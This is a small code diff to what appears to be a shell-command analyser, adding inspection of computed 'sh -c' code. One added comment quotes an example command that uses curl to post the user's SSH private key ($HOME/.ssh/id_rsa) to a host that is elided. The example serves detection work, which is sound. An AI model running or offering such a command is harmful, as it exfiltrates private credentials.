@@ -72,6 +72,8 @@ def shell(ex: Walk, cmd: SimpleCommand, name: str, args: list[Word], via: tuple[
         if code.dynamic:
             ex.problem(f"{name} -c with computed code")
             run.notes.append(("executes", "computed shell code"))
+            if "$(" not in code.text and "`" not in code.text:  # `sh -c "curl -d @$HOME/.ssh/id_rsa …"`: the
+                ex.nested(code.text, via_c + ("computed",), depth, remote)  # expansions read as the inner shell's
             return
         ex.nested(code.text, via_c, depth, remote, {**child_environment(ex, cmd), **positionals(operands[1:])} or None)
         return
